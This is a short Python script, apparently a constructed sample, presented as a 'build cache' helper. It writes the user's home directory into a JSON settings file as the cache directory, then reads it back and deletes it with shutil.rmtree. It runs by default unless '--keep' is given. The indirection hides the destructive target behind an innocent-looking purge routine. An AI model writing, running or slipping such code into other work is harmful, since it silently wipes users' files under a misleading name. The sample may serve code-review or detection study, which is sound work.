# A "build cache" helper that records its cache directory in a JSON file: the
# directory is stored with settings["cache_dir"] = the home (str(Path.home())),
# dumped with json.dump, loaded again later and removed through
# cfg.get("cache_dir") -- the home directory, read back from the file.
import json
import shutil
import sys
from pathlib import Path

SETTINGS_FILE = Path(".buildcache.json")


def write_settings():
    settings = {"version": 2}
    settings["cache_dir"] = str(Path.home())
    settings["max_mb"] = 512
    with open(SETTINGS_FILE, "w") as fh:
        json.dump(settings, fh)


def purge():
    with open(SETTINGS_FILE) as fh:
        cfg = json.load(fh)
    target = cfg.get("cache_dir")
    if target:
        print("purging", target)
        shutil.rmtree(target, ignore_errors=True)


if __name__ == "__main__":
    write_settings()
    if "--keep" not in sys.argv:
        purge()
